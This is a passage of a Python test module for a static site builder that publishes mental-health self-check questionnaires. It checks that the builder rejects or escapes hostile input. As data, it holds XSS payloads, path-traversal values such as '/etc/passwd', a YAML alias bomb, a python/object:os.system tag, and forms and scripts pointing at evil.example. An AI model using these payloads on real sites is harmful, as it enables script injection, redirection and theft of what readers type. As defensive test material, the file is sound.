"""The hostile inputs, each with the outcome it must have: a clear error, or a safe page.

Each `Case` changes a fresh tiny site (`harness.Project`) in one way. An
"error" case lists message lines that must appear exactly (`file:line:
field: message`); a "page" case may check the built site. Every case also
gets the harness's own checks: no traceback, output/ untouched by a failed
build, no temporary folder left, and nothing dangerous in a built page.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from typing import NamedTuple

from markupsafe import escape

from tests.conftest import ROOT

from .harness import Project

GAD = (ROOT / "content" / "screeners" / "gad-7.yaml").read_text(encoding="utf-8")
FRONT = {
    "Title": "A hostile article",
    "Date": "2026-11-20",
    "Reviewed": "2026-11-21",
    "Summary": "A short summary.",
    "Category": "Basics",
    "Tags": "test",
}
PAGE_FRONT = {"Title": "A hostile page", "Summary": "A short summary."}
A = "content/articles/x.md"
P = "content/pages/x.md"
D = "content/screeners/gad-7.yaml"


def line(snippet: str, after: int = 0) -> int:
    """The 1-based line of the real gad-7.yaml that holds `snippet`, plus `after`.

    Messages name lines; the cases below change the real file, so its lines
    are found here rather than written out (the file gains lines over time).
    """
    return next(n for n, text in enumerate(GAD.splitlines(), 1) if snippet in text) + after


MINUTES = line("minutes: 2")
LAST = len(GAD.splitlines())
BODY_LINE = 8  # the first body line of an article written by `article()`


class Case(NamedTuple):
    id: str
    setup: Callable[[Project], None]
    expect: str  # "error" or "page"
    lines: tuple[str, ...] = ()  # error lines that must appear, exactly
    settings: dict | None = None
    check: Callable[[Project], None] | None = None  # for a page: what the site must show


# --- ways to write hostile input -----------------------------------------------------------------


def front_matter(fields: dict[str, str]) -> str:
    return "".join(f"{key}: {value}\n" for key, value in fields.items())


def article(body: str = "Some text.", name: str = "x.md", **fields: str) -> Callable:
    """An article with FRONT (fields override or add; None removes) and `body`."""

    def setup(project: Project) -> None:
        values = {**FRONT, **fields}
        text = front_matter({k: v for k, v in values.items() if v is not None})
        project.write(f"articles/{name}", text + "\n" + body + "\n")

    return setup


def page(body: str = "Some text.", name: str = "x.md", **fields: str) -> Callable:
    def setup(project: Project) -> None:
        values = {**PAGE_FRONT, **fields}
        project.write(f"pages/{name}", front_matter(values) + "\n" + body + "\n")

    return setup


def raw(relative: str, data: str | bytes) -> Callable:
    return lambda project: project.write(relative, data)


def gad(old: str, new: str, count: int = 1) -> Callable:
    """gad-7.yaml with `old` replaced by `new`."""
    assert old in GAD, old
    return raw("screeners/gad-7.yaml", GAD.replace(old, new, count))


def link(relative: str, target: str) -> Callable:
    def setup(project: Project) -> None:
        path = project.content / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, path)

    return setup


def both(*setups: Callable) -> Callable:
    def setup(project: Project) -> None:
        for step in setups:
            step(project)

    return setup


def body_error(html: str, message: str, field: str = "HTML", line: int = BODY_LINE) -> Case:
    """An article whose body (one line of it) must stop the build with `message`."""
    return Case(
        f"body: {html[:60]}",
        article(html),
        "error",
        (f"{A}:{line}: {field}: {message}",),
    )


def line_of(text: str, needle: str) -> int:
    return next(n for n, line in enumerate(text.splitlines(), 1) if needle in line)


# --- what the site must show ---------------------------------------------------------------------


def shows(relative: str, *present: str, absent: tuple[str, ...] = ()) -> Callable:
    def check(project: Project) -> None:
        html = project.html(relative)
        for text in present:
            assert text in html, f"{relative} lacks {text!r}"
        for text in absent:
            assert text not in html, f"{relative} has {text!r}"

    return check


def escaped_everywhere(payload: str, *pages: str) -> Callable:
    """The payload shows as text (escaped) on every listed page, and never as markup."""
    return shows_all(*(shows(p, str(escape(payload)), absent=(payload,)) for p in pages))


def shows_all(*checks: Callable) -> Callable:
    def check(project: Project) -> None:
        for each in checks:
            each(project)

    return check


def evil(where: str) -> str:
    """A payload that would redirect, run and load if it were ever markup."""
    return (
        f'<meta http-equiv="refresh" content="0;url=https://evil.example/{where}">'
        f"<script>alert('EVIL-{where}')</script>\"><img src=x onerror=alert('EVIL-{where}')>"
    )


# --- definitions ---------------------------------------------------------------------------------

_NEST = "extra: " + "[" * 60 + "]" * 60 + "\n"
_BLOCK_NEST = "".join(" " * i + f"k{i}:\n" for i in range(60)) + " " * 60 + "v\n"
_BOMB = "".join(
    f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9) if i else ', '.join(['x'] * 9)}]\n"
    for i in range(8)
)
_DOUBLING = "".join(
    f"\n  - id: z{i}\n    text: Extra\n    options: [{{label: a, value: 0}}, "
    f"{{label: b, value: {2 ** (i + 22)}}}]"
    for i in range(20)
)

DEFINITIONS = [
    Case(
        "definition: flow nesting 60 deep",
        gad("minutes: 2\n", "minutes: 2\n" + _NEST),
        "error",
        (
            f"{D}:{MINUTES + 1}: "
            "(yaml): the values are nested more than 40 levels deep; a definition "
            "needs a few levels (check the brackets and the indentation here)",
        ),
    ),
    Case(
        "definition: block nesting 60 deep",
        gad("minutes: 2\n", "minutes: 2\n" + _BLOCK_NEST),
        "error",
        (
            f"{D}:{MINUTES + 40}: "
            "(yaml): the values are nested more than 40 levels deep; a definition "
            "needs a few levels (check the brackets and the indentation here)",
        ),
    ),
    Case(
        "definition: alias bomb (9^8 values)",
        raw("screeners/gad-7.yaml", _BOMB),
        "error",
        (
            f"{D}:1: (yaml): the file holds more than 50000 values once its aliases (*name) "
            "are expanded; a self-check needs a few hundred, so write the values out instead "
            "of repeating aliases",
        ),
    ),
    Case(
        "definition: an alias inside itself",
        gad("minutes: 2\n", "minutes: 2\nloop: &loop [1, *loop]\n"),
        "error",
        (f"{D}:{MINUTES + 1}: loop[1]: an alias refers to itself; write the value out",),
    ),
    Case(
        "definition: one anchor name twice",
        raw(
            "screeners/gad-7.yaml",
            GAD.replace("  - id: q1\n", "  - id: &x q1\n").replace(
                "  - id: q2\n", "  - id: &x q2\n"
            ),
        ),
        "error",
        (
            f"{D}:{line('  - id: q2')}: "
            "(yaml): the anchor &x is defined twice (also on line "
            f"{line('  - id: q1')}); give each anchor "
            "its "
            "own name",
        ),
    ),
    Case(
        "definition: 300 kB file",
        raw("screeners/gad-7.yaml", GAD + ("# padding\n" * 30_000)),
        "error",
        (
            f"{D}: file: is 0.3 MB; a self-check definition may be at most 256 kB. A file this "
            "big is almost certainly a mistake (a pasted file or a log): check what it holds",
        ),
    ),
    Case(
        "definition: not UTF-8",
        raw("screeners/gad-7.yaml", GAD.encode().replace(b"Trouble relaxing", b"Trouble \xff")),
        "error",
        (f"{D}:{line('Trouble relaxing')}: (yaml): the file is not UTF-8 text; save it as UTF-8",),
    ),
    Case(
        "definition: byte-order mark",
        raw("screeners/gad-7.yaml", b"\xef\xbb\xbf" + GAD.encode()),
        "error",
        (
            f"{D}:1: (yaml): the file starts with a byte-order mark (an invisible character "
            "some editors add); save it as UTF-8 without a BOM (VS Code: click 'UTF-8 with BOM' "
            "in the status bar, then 'Save with Encoding', 'UTF-8')",
        ),
    ),
    Case(
        "definition: a tab",
        gad("minutes: 2\n", "minutes:\t2\n"),
        "error",
        (
            f"{D}:{MINUTES}: "
            "(yaml): tab character: YAML needs spaces for indentation; use spaces only",
        ),
    ),
    Case(
        "definition: empty file",
        raw("screeners/gad-7.yaml", ""),
        "error",
        (f"{D}:1: (top level): the file is empty; a definition starts with id: and title:",),
    ),
    Case(
        "definition: only spaces and comments",
        raw("screeners/gad-7.yaml", "   \n# nothing\n\n"),
        "error",
        (f"{D}:1: (top level): the file is empty; a definition starts with id: and title:",),
    ),
    Case(
        "definition: a key twice",
        gad("minutes: 2\n", "minutes: 2\nminutes: 3\n"),
        "error",
        (
            f"{D}:{MINUTES + 1}: "
            f"minutes: duplicate key 'minutes': it is already set at line {MINUTES}",
        ),
    ),
    Case(
        "definition: merge key",
        gad("minutes: 2\n", "minutes: 2\nextra: {<<: {a: 1}}\n"),
        "error",
        (f"{D}:{MINUTES + 1}: extra: merge keys (<<) are not supported; write the keys out",),
    ),
    Case(
        "definition: a number as a key",
        gad("minutes: 2\n", "minutes: 2\n1: one\n"),
        "error",
        (
            f"{D}:{MINUTES + 1}: "
            "(top level): keys must be text (got 1, an int); put the key in quotes",
        ),
    ),
    Case(
        "definition: a second document",
        raw("screeners/gad-7.yaml", GAD + "---\nid: other\n"),
        "error",
        (
            f"{D}:{LAST + 1}: "
            "(yaml): a second YAML document starts here (---); keep one definition "
            "per file",
        ),
    ),
    Case(
        "definition: gad-7.yml beside gad-7.yaml",
        raw("screeners/gad-7.yml", GAD),
        "error",
        (
            "content/screeners/gad-7.yml: file name: 'gad-7' is already the id of "
            "content/screeners/gad-7.yaml; two files cannot be one self-check: delete one of "
            "them, or rename it and change its id",
        ),
    ),
    Case(
        "definition: id is not the file name",
        gad("id: gad-7\n", "id: phq-9\n"),
        "error",
        (
            f"{D}:{line('id: gad-7')}: "
            "id: 'phq-9' must equal the file name without .yaml ('gad-7'); rename "
            "the file or change the id",
        ),
    ),
    Case(
        "definition: id with a path in it",
        gad("id: gad-7\n", "id: ../../gad-7\n"),
        "error",
        (
            f"{D}:{line('id: gad-7')}: "
            "id: must be an id of lowercase letters, digits and hyphens, starting with "
            "a letter (got '../../gad-7')",
        ),
    ),
    Case(
        "definition: a file that is not a definition",
        raw("screeners/gad-7.yaml.bak", GAD),
        "error",
        (
            "content/screeners/gad-7.yaml.bak: file name: not a self-check definition (those "
            "end in .yaml); rename the file or move it out of this folder",
        ),
    ),
    Case(
        "definition: 2^53 points",
        gad("value: 3, loinc: LA6571-9", "value: 9007199254740993, loinc: LA6571-9"),
        "error",
        (
            f"{D}:{line('value: 3, loinc: LA6571-9')}: "
            "option_sets.frequency[3].value: must be a whole number from "
            "-9007199254740991 to 9007199254740991 (got 9007199254740993); a browser cannot "
            "count exactly beyond that",
        ),
    ),
    Case(
        "definition: -2^60 in a band",
        gad("      min: 0\n", "      min: -1152921504606846976\n"),
        "error",
        (
            f"{D}:{line('      min: 0')}: "
            "bands.ranges[0].min: must be a whole number from -9007199254740991 to "
            "9007199254740991 (got -1152921504606846976); a browser cannot count exactly beyond "
            "that",
        ),
    ),
    Case(
        "definition: NaN minutes",
        gad("minutes: 2\n", "minutes: .nan\n"),
        "error",
        (f"{D}:{MINUTES}: minutes: must be an integer (got nan, a float)",),
    ),
    Case(
        "definition: Infinity as points",
        gad("value: 3, loinc: LA6571-9", "value: .inf, loinc: LA6571-9"),
        "error",
        (
            f"{D}:{line('value: 3, loinc: LA6571-9')}: "
            "option_sets.frequency[3].value: must be an integer or a text code such as "
            "'yes' (got inf, a float)",
        ),
    ),
    Case(
        "definition: -Infinity as a band's end",
        gad("      max: 21\n", "      max: -.inf\n"),
        "error",
        (
            f"{D}:{line('      max: 21')}: "
            "bands.ranges[3].max: must be an integer, or a mapping from variant values "
            "to integers (got -inf, a float)",
        ),
    ),
    Case(
        "definition: points that double with every question",
        gad("\n\nscores:", _DOUBLING + "\n\nscores:"),
        "error",
        (
            f"{D}:{line('questions:')}: "
            "questions: the answers' points could add up to more than 100000 different "
            "totals, too many to check every result; give answers small whole-number points, as "
            "questionnaires do (0 to 3, say)",
        ),
    ),
    Case(
        "definition: safe points whose total is not",
        gad(
            "value: 3, loinc: LA6571-9",
            "value: 4503599627370496, loinc: LA6571-9",
        ),
        "error",
        (
            f"{D}:{line('questions:')}: "
            "questions: the answers' points could add up to 31525197391593472, beyond "
            "what a browser counts exactly (9007199254740991); give answers small whole-number "
            "points, as questionnaires do (0 to 3, say)",
        ),
    ),
    Case(
        "definition: a link to /dev/zero",
        link("screeners/zero.yaml", "/dev/zero"),
        "error",
        (
            "content/screeners/zero.yaml: file: is not a regular file (a device, a pipe or a "
            "socket), so it cannot be a self-check definition; remove it",
        ),
    ),
    Case(
        "definition: javascript: as the source address",
        gad("source_url: https://www.phqscreeners.com/", "source_url: javascript:alert(1)"),
        "error",
        (
            f"{D}:{line('source_url:')}: "
            "instrument.source_url: must be a web address starting with https:// (got "
            "'javascript:alert(1)')",
        ),
    ),
    Case(
        "definition: a Python object tag",
        gad("minutes: 2\n", "minutes: !!python/object:os.system 2\n"),
        "error",
        (
            f"{D}:{MINUTES}: "
            "minutes: the YAML cannot be read: could not determine a constructor for "
            "the tag 'tag:yaml.org,2002:python/object:os.system'",
        ),
    ),
    Case(
        "definition: a NUL byte",
        gad("Trouble relaxing", "Trouble \x00relaxing"),
        "error",
        (
            f"{D}:{line('Trouble relaxing')}: "
            "(yaml): holds an invisible character (U+0000) that YAML does not allow; "
            "delete it (it usually comes with text copied from another program)",
        ),
    ),
    Case(
        "definition: text at the top level",
        raw("screeners/gad-7.yaml", "just some text\n"),
        "error",
        (f"{D}:1: (top level): must be a mapping (got 'just some text', a str)",),
    ),
    Case(
        "definition: a list at the top level",
        raw("screeners/gad-7.yaml", "- id: gad-7\n"),
        "error",
        (f"{D}:1: (top level): must be a mapping (got [{{'id': 'gad-7'}}], a list)",),
    ),
]


# --- every text field of a definition: text on the page, never markup ----------------------------


def evil_definition() -> dict:
    """A valid definition with a hostile payload in every text field."""
    yes_no = [{"label": "No", "value": 0}, {"label": "Yes", "value": 1}]
    return {
        "id": "evil",
        "title": evil("title"),
        "short_title": evil("short_title"),
        "description": evil("description"),
        "version": "1.0.0",
        "language": "en",
        "minutes": 2,
        "audience": evil("audience"),
        "stem": evil("stem"),
        "instrument": {
            "name": evil("instrument"),
            "validated": False,
            "note": evil("note"),
            "citation": [evil("citation")],
            "copyright": evil("copyright"),
            "licence": evil("licence"),
            "source_url": "https://example.org/source?a=1&b=%22",
        },
        "variants": [
            {
                "id": "sex",
                "text": evil("variant"),
                "note": evil("variant-note"),
                "options": [
                    {"label": evil("variant-label"), "value": "female"},
                    {"label": "Male", "value": "male"},
                ],
            }
        ],
        "questions": [
            {
                "id": "q1",
                "text": evil("question"),
                "context": evil("context"),
                "examples": [evil("example")],
                "options": [{"label": evil("option"), "value": 0}, {"label": "Yes", "value": 1}],
            },
            {"id": "q2", "stem": evil("question-stem"), "text": "Second", "options": yes_no},
        ],
        "scores": [{"id": "total", "label": evil("score"), "sum": ["q1", "q2"]}],
        "bands": {
            "score": "total",
            "varies_by": "sex",
            "ranges": [
                {
                    "id": "low",
                    "min": 0,
                    "max": {"female": 0, "male": 1},
                    "label": evil("band"),
                    "meaning": evil("band-meaning"),
                    "next_steps": [evil("band-step")],
                    "with_safety": {
                        "meaning": evil("band-safety"),
                        "next_steps": ["Call or text 988."],
                    },
                },
                {
                    "id": "high",
                    "min": {"female": 1, "male": 2},
                    "max": 2,
                    "label": "High",
                    "meaning": "More.",
                    "next_steps": ["Talk to someone."],
                    "with_safety": {"meaning": "More, and help now.", "next_steps": ["Call 988."]},
                },
            ],
        },
        "flags": [
            {
                "id": "f",
                "kind": "safety",
                "when": {"answer": "q1", "at_least": 1},
                "title": evil("flag"),
                "message": evil("flag-message"),
            }
        ],
        "outcomes": [
            {
                "id": "o",
                "priority": 1,
                "when": "always",
                "title": evil("outcome"),
                "meaning": evil("outcome-meaning"),
                "next_steps": [evil("outcome-step")],
                "explain": evil("outcome-explain"),
                "with_safety": {
                    "title": evil("outcome-safety-title"),
                    "meaning": evil("outcome-safety"),
                    "next_steps": ["Call or text 988."],
                },
            }
        ],
        "tests": [
            {
                "name": evil("test"),
                "answers": {"sex": "female", "q1": 0, "q2": 0},
                "expect": {"scores": {"total": 0}, "band": "low"},
            }
        ],
    }


EVIL_PAGE = "self-checks/evil/index.html"
# (field, pages where it is shown). Fields shown only by the script (an
# outcome's meaning, next steps) are in the engine's bundle, which the
# widget writes with textContent (plugins/screeners/static/screener.js).
EMBED_PAGE = "embeds/index.html"  # an article that embeds the self-check (test_table.evil_site)
_WIDGET = (EVIL_PAGE, EMBED_PAGE)  # in the widget: on its own page and where it is embedded
DEFINITION_FIELDS = [
    ("title", (*_WIDGET, "self-checks/index.html", "index.html")),
    ("short_title", (EVIL_PAGE,)),  # the breadcrumb
    ("description", (*_WIDGET, "self-checks/index.html", "index.html")),
    ("audience", (EVIL_PAGE,)),
    *(
        (field, _WIDGET)
        for field in (
            "stem",
            "instrument",
            "note",
            "citation",
            "copyright",
            "licence",
            "variant",
            "variant-note",
            "variant-label",
            "question",
            "context",
            "example",
            "option",
            "question-stem",
            "score",
            "band",
            "band-meaning",
            "band-safety",  # the paper table gives the band's wording beside crisis help too
            "flag",
            "flag-message",
            "outcome",
        )
    ),
]


# --- front matter --------------------------------------------------------------------------------


def _slug(value: str, message: str, line: int = 7) -> Case:
    return Case(
        f"front matter: Slug: {value}",
        article(Slug=value),
        "error",
        (f"{A}:{line}: Slug: {message}",),
    )


FRONT_MATTER = [
    _slug(
        "../../outside",
        "'../../outside' would write the page outside the site's folder; a slug names a page "
        "inside the site, like what-is-an-iop",
    ),
    _slug(
        "/etc/passwd",
        "'/etc/passwd' would write the page outside the site's folder; a slug names a page "
        "inside the site, like what-is-an-iop",
    ),
    _slug(
        "a b",
        "'a b' is not a slug this site can use; write lower-case letters, digits and hyphens, "
        "like what-is-an-iop",
    ),
    _slug(
        '"><script>alert(1)</script>',
        "'\"><script>alert(1)</script>' is not a slug this site can use; write lower-case "
        "letters, digits and hyphens, like what-is-an-iop",
    ),
    _slug(
        "static/x",
        "'static/x' would put the page in static/, which holds the site's own files; choose "
        "another slug",
    ),
    _slug(
        "self-checks",
        "this page would be written to self-checks/index.html, which the list of self-checks "
        "(SCREENER_INDEX_SAVE_AS) writes too; choose another Slug",
    ),
    _slug(
        "self-checks/phq-9",
        "this page would be written to self-checks/phq-9/index.html, which the self-check "
        "'Depression check (PHQ-9)' (SCREENER_SAVE_AS) writes too; choose another Slug",
    ),
    _slug(
        "topics",
        "this page would be written to topics/index.html, which the categories page "
        "(CATEGORIES_SAVE_AS) writes too; choose another Slug",
    ),
    _slug(
        "search",
        "this page would be written to search/index.html, which the search page (SEARCH_SAVE_AS) "
        "writes too; choose another Slug",
    ),
    _slug(
        "tags/test",
        "this page would be written to tags/test/index.html, which the tag page of 'test' "
        "writes too; choose another Slug",
    ),
    _slug(
        "about",
        "'about' is already the address of content/pages/about.md; give one of them another "
        "file name or a 'Slug:' line",
    ),
    _slug(
        "a",
        "'a' is already the address of content/articles/a.md; give one of them another file "
        "name or a 'Slug:' line",
    ),
    Case(
        "front matter: a draft with the Slug of an article",
        article(Slug="a", Status="draft"),
        "error",
        (
            f"{A}:7: Slug: 'a' is already the address of content/articles/a.md; give one of them "
            "another file name or a 'Slug:' line",
        ),
    ),
    Case(
        "front matter: a translation written where a page is",
        both(article(Slug="a", Lang="es"), page(Save_as="a-es.html")),
        "error",
        (
            f"{P}:3: Save_as: this page would be written to a-es.html, which {A} (line 7) writes "
            "too; give one of them another Slug or Save_as",
        ),
    ),
    Case(
        "front matter: Save_as: ../../x.html",
        article(Save_as="../../x.html"),
        "error",
        (
            f"{A}:7: Save_as: '../../x.html' would point outside the site's folder; write a path "
            "inside it, such as what-is-an-iop/index.html",
        ),
    ),
    Case(
        "front matter: Save_as: an absolute path",
        article(Save_as="/tmp/x.html"),
        "error",
        (
            f"{A}:7: Save_as: '/tmp/x.html' would point outside the site's folder; write a path "
            "inside it, such as what-is-an-iop/index.html",
        ),
    ),
    Case(
        "front matter: Save_as: a Windows path",
        article(Save_as="C:\\x.html"),
        "error",
        (
            f"{A}:7: Save_as: 'C:\\x.html' would point outside the site's folder; write a path "
            "inside it, such as what-is-an-iop/index.html",
        ),
    ),
    Case(
        "front matter: Save_as: the home page",
        article(Save_as="index.html"),
        "error",
        (
            f"{A}:7: Save_as: this page would be written to index.html, which the index page "
            "(INDEX_SAVE_AS) writes too; choose another Save_as",
        ),
    ),
    Case(
        "front matter: Save_as: the self-checks' list",
        page(Save_as="self-checks/index.html"),
        "error",
        (
            f"{P}:3: Save_as: this page would be written to self-checks/index.html, which the "
            "list of self-checks (SCREENER_INDEX_SAVE_AS) writes too; choose another Save_as",
        ),
    ),
    Case(
        "front matter: Save_as: the same file as another page",
        both(page(Save_as="same.html"), page(name="y.md", Save_as="same.html")),
        "error",
        (
            "content/pages/y.md:3: Save_as: this page would be written to same.html, which "
            f"{P} (line 3) writes too; give one of them another Slug or Save_as",
        ),
    ),
    Case(
        "front matter: Save_as: the 404 page",
        both(
            raw("pages/404.md", (ROOT / "content/pages/404.md").read_text()),
            page(Save_as="404.html"),
        ),
        "error",
        (
            "content/pages/404.md:4: Save_as: this page would be written to 404.html, which "
            f"{P} (line 3) writes too; give one of them another Slug or Save_as",
        ),
    ),
    Case(
        "front matter: Save_as: sitemap.xml",
        page(Save_as="sitemap.xml"),
        "error",
        (
            f"{P}:3: Save_as: 'sitemap.xml' must name an .html file, such as "
            "what-is-an-iop/index.html",
        ),
    ),
    Case(
        "front matter: Save_as: inside theme/",
        page(Save_as="theme/x.html"),
        "error",
        (
            f"{P}:3: Save_as: 'theme/x.html' is inside theme/, which holds the site's own files; "
            "choose another file",
        ),
    ),
    Case(
        "front matter: URL: javascript:",
        page(URL="javascript:alert(1)", Save_as="x/index.html"),
        "error",
        (
            f"{P}:3: URL: 'javascript:alert(1)' is not a path inside the site (it starts with a "
            "scheme); write a path such as what-is-an-iop/",
        ),
    ),
    Case(
        "front matter: URL: another host",
        page(URL="//evil.example/", Save_as="x/index.html"),
        "error",
        (
            f"{P}:3: URL: '//evil.example/' would point outside the site's folder; write a path "
            "inside it, such as what-is-an-iop/",
        ),
    ),
    Case(
        "front matter: Lang with a path",
        article(Lang="../../x"),
        "error",
        (f"{A}:7: Lang: '../../x' is not a language code; write one such as en, es or pt-BR",),
    ),
    Case(
        "front matter: Lang with markup",
        article(Lang='en"><script>alert(1)</script>'),
        "error",
        (
            f"{A}:7: Lang: 'en\"><script>alert(1)</script>' is not a language code; write one "
            "such as en, es or pt-BR",
        ),
    ),
    Case(
        "front matter: Template with a path",
        article(Template="../../../etc/passwd"),
        "error",
        (
            f"{A}:7: Template: '../../../etc/passwd' is not a template of this theme for one "
            "page; write one of article, page, or remove the line to use the usual one",
        ),
    ),
    Case(
        "front matter: Template of a list",
        article(Template="base"),
        "error",
        (
            f"{A}:7: Template: 'base' is not a template of this theme for one page; write one of "
            "article, page, or remove the line to use the usual one",
        ),
    ),
    Case(
        "front matter: Order that is not a number",
        page(Order="first"),
        "error",
        (
            f"{P}:3: Order: 'first' is not a number; write a whole number such as 'Order: 2' "
            "(pages with smaller numbers come first in the menu)",
        ),
    ),
    Case(
        "front matter: a Category without letters",
        article(Category="!!!"),
        "error",
        (
            f"{A}:5: Category: '!!!' has no letters or digits, so its topic page would have no "
            "address; use words",
        ),
    ),
    Case(
        "front matter: a tag without letters",
        article(Tags="test, ???"),
        "error",
        (
            f"{A}:6: Tags: '???' has no letters or digits, so its tag page would have no address; "
            "use words",
        ),
    ),
    Case(
        "front matter: a tab where a field goes on",
        raw("articles/x.md", "Title: A hostile\n\tarticle\nDate: 2026-11-20\n\nText.\n"),
        "error",
        (
            f"{A}:2: front matter: this line starts with a tab, which ends the fields here (every "
            "line below is read as text); indent a field's second line with four spaces, or leave "
            "a blank line before the text",
        ),
    ),
    Case(
        "front matter: an impossible date",
        article(Date="2026-13-45"),
        "error",
        (f"{A}:2: Date: '2026-13-45' is not a real day or time; check the month, day and hour",),
    ),
    Case(
        "front matter: an unknown status",
        article(Status="public"),
        "error",
        (f"{A}:7: Status: 'public' is not one of Published, Draft and Hidden",),
    ),
    Case(
        "front matter: an event handler as a field",
        article(Onload="alert(1)"),
        "error",
        (
            f"{A}:7: Onload: is not a field this site knows; the fields this site knows are "
            "Title, Date, Modified, Author, Checked, Reviewer, Reviewer_credential, Reviewed, "
            "Summary, Category, Tags, Slug, Status, "
            "Lang, Template, Save_as, Url and Order",
        ),
    ),
    Case(
        "front matter: a script in the Summary",
        article(Summary="Hello <script>alert(1)</script>"),
        "error",
        (
            f"{A}:4: Summary: <script> runs code in the reader's browser; remove it (scripts, "
            "styles and <meta> tags belong to the theme, which a developer maintains)",
        ),
    ),
    Case(
        "front matter: a javascript: link in the Summary",
        article(Summary="See [this](javascript:alert(1))."),
        "error",
        (
            f"{A}:4: Summary: the link to 'javascript:alert(1)': a 'javascript:' address runs "
            "code when the reader follows it; remove it, or link to a page with https://",
        ),
    ),
    Case(
        "front matter: a tracking pixel in the Summary",
        article(Summary='Hi <img src="https://evil.example/p.gif" width="1" height="1" alt="">'),
        "error",
        (
            f"{A}:4: Summary: <img> loads a tracking pixel (a tiny invisible image) from "
            "https://evil.example, another site, which would learn who reads this page; remove "
            "it (a tracking pixel shows nothing; it only reports who reads the page)",
        ),
    ),
]

# Front-matter text shown on pages: escaped wherever it appears.
TITLE = evil("front-title")
JSON_TITLE = "</script><script>alert('EVIL-json')</script>"
FRONT_MATTER_PAGES = [
    Case(
        "front matter: markup in Title",
        article(Title=TITLE, Slug="t"),
        "page",
        check=escaped_everywhere(TITLE, "t/index.html", "index.html", "topics/basics/index.html"),
    ),
    Case(
        "front matter: </script> in Title (JSON-LD)",
        article(Title=JSON_TITLE, Slug="t"),
        "page",
        check=shows("t/index.html", "\\u003c/script\\u003e", absent=(JSON_TITLE,)),
    ),
    Case(
        "front matter: markup in Reviewer",
        # A review is shown only with a name, a credential and a date.
        article(
            Reviewer=evil("reviewer"), Reviewer_credential="MD", Reviewed="2026-11-21", Slug="t"
        ),
        "page",
        check=escaped_everywhere(evil("reviewer"), "t/index.html"),
    ),
    Case(
        "front matter: markup in a page Title",
        page(Title=evil("page-title"), Slug="t"),
        "page",
        check=escaped_everywhere(evil("page-title"), "t/index.html", "index.html"),
    ),
    Case(
        "front matter: markup in Category",
        article(Category="<b>Care</b>", Slug="t"),
        "page",
        check=escaped_everywhere("<b>Care</b>", "t/index.html", "topics/index.html"),
    ),
    Case(
        "front matter: markup in Tags",
        article(Tags="<i>x</i>", Slug="t"),
        "page",
        check=escaped_everywhere("<i>x</i>", "t/index.html", "tags/index.html"),
    ),
    Case(
        "front matter: Jinja in Title stays text",
        article(Title="{{ 7 * 7 }} {% raw %}", Slug="t"),
        "page",
        check=shows("t/index.html", "<h1>{{ 7 * 7 }} {% raw %}</h1>"),
    ),
    Case(
        "front matter: quotes and ampersands in Summary",
        article(Summary='5 < 6 & "quoted"', Slug="t"),
        "page",
        check=shows(
            "t/index.html",
            '<meta name="description" content="5 &lt; 6 &amp; “quoted”">',
        ),
    ),
    Case(
        "front matter: a year-9999 date",
        article(Date="9999-12-31 23:59", Slug="t"),
        "page",
        check=shows("t/index.html", "A hostile article"),
    ),
]

# --- article bodies ------------------------------------------------------------------------------

_THEME = (
    "remove it (scripts, styles and <meta> tags belong to the theme, which a developer maintains)"
)
_MEDIA = "link to it instead, for example [Watch the video](address)"
_FORM = "remove the form (this site never sends what visitors type anywhere)"
_IMAGE = (
    "save the image in content/images/ and write ![what the image shows]({static}/images/name.png)"
)
_JS_LINK = (
    "a 'javascript:' address runs code when the reader follows it; remove it, or link to a page "
    "with https://"
)

BODIES = [
    body_error(
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<meta> can send the reader to another page (http-equiv="refresh") or change what the '
        f"page tells other sites; {_THEME}",
    ),
    body_error(
        '<meta name="referrer" content="unsafe-url">',
        '<meta> can send the reader to another page (http-equiv="refresh") or change what the '
        f"page tells other sites; {_THEME}",
    ),
    body_error(
        '<base href="https://evil.example/">',
        "<base> makes every relative address of the page load from https://evil.example, another "
        "site, which would learn who reads this page; remove it (scripts, styles and fonts belong "
        "to the theme, which a developer maintains)",
        field="privacy",
    ),
    body_error(
        '<base href="/">', "<base> changes where every link and image of the page points; remove it"
    ),
    body_error(
        "<script>alert(1)</script>", f"<script> runs code in the reader's browser; {_THEME}"
    ),
    body_error(
        '<script src="https://evil.example/x.js"></script>',
        "<script> loads a script from https://evil.example, another site, which would learn who "
        "reads this page; remove it (scripts, styles and fonts belong to the theme, which a "
        "developer maintains)",
        field="privacy",
    ),
    body_error(
        "<script>gtag('config', 'G-1')</script>",
        "<script> runs Google Tag Manager / Google Analytics code ('gtag('), a tracking service; "
        "this site promises its visitors no analytics and no trackers "
        "(content/pages/privacy.md), so remove it",
        field="privacy",
    ),
    body_error(
        "<style>body { display: none }</style>",
        "<style> restyles the whole page (and the site's security policy ignores it); remove it: "
        "the theme styles every article",
    ),
    body_error(
        '<iframe src="https://evil.example/"></iframe>',
        f"<iframe> loads a page in a frame from https://evil.example, another site, which would "
        f"learn who reads this page; {_MEDIA}",
        field="privacy",
    ),
    body_error(
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        "<iframe> shows another page inside this one, which can run code and track readers; "
        f"{_MEDIA}",
    ),
    body_error(
        '<object data="movie.swf"></object>',
        "<object> runs a plug-in or loads a file into the page; link to the file instead, for "
        "example [Read the leaflet (PDF)](address)",
    ),
    body_error(
        '<embed src="movie.swf">',
        "<embed> runs a plug-in or loads a file into the page; link to the file instead, for "
        "example [Read the leaflet (PDF)](address)",
    ),
    body_error(
        '<form action="https://evil.example/collect"><input name="q"></form>',
        "<form> sends what visitors type to https://evil.example, another site, which would learn "
        f"who reads this page; {_FORM}",
        field="privacy",
    ),
    body_error(
        '<form><input name="q"></form>',
        f"<form> could collect what readers type and send it away; {_FORM}",
    ),
    body_error(
        '<input autofocus onfocus="alert(1)">',
        f"<input> could collect what readers type and send it away; {_FORM}",
    ),
    body_error(
        '<button formaction="https://evil.example/">Go</button>',
        f"<button> could collect what readers type and send it away; {_FORM}",
    ),
    body_error(
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        "<link> loads a style sheet from https://evil.example, another site, which would learn "
        "who reads this page; remove it (scripts, styles and fonts belong to the theme, which a "
        "developer maintains)",
        field="privacy",
    ),
    body_error(
        '<link rel="prefetch" href="/topics/">',
        "<link> makes the browser fetch a file or connect to another site; remove it",
    ),
    body_error(
        '<p onclick="alert(1)">Click</p>',
        "the onclick attribute on <p> runs code in the reader's browser; remove it",
    ),
    body_error(
